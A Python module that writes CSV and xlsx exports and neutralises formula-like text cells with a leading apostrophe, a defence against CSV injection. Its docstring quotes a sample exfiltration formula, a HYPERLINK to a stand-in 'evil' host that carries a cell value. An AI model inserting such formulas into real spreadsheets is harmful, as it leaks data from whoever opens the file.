"""Every spreadsheet the product writes goes through here.

A cell whose text begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (`=HYPERLINK("http://evil/?"&A1,"Click")`, `@SUM(…)`, `-2+3`): a
value that came from a file or a form must never come out of our files as one. `neutralise`
prefixes such text with an apostrophe — the OWASP "CSV injection" remedy, shown as text by every
spreadsheet program — and the writers below apply it to every text cell, so no writer can forget.
Numbers, dates and booleans are written as they are (a negative balance stays a number).
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """The value as a cell that no spreadsheet program evaluates: formula-like text gets a leading
    apostrophe; None becomes an empty cell; everything else is returned unchanged."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def xlsx_bytes(rows: Iterable[Sequence], *, header: Sequence[str], title: str = "Sheet1") -> bytes:
    """Rows as a one-sheet xlsx (openpyxl in write-only mode: memory stays flat), every cell
    neutralised."""
    import openpyxl

    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet(title[:31])
    # openpyxl makes a formula of any text beginning with "="; neutralised text never does
    ws.append([neutralise(v) for v in header])
    for row in rows:
        ws.append([neutralise(v) for v in row])
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def csv_text(rows: Iterable[Sequence], *, header: Sequence[str]) -> str:
    """Rows as CSV text with a header row, every cell neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([neutralise(v) for v in header])
    for row in rows:
        writer.writerow([neutralise(v) for v in row])
    return buffer.getvalue()
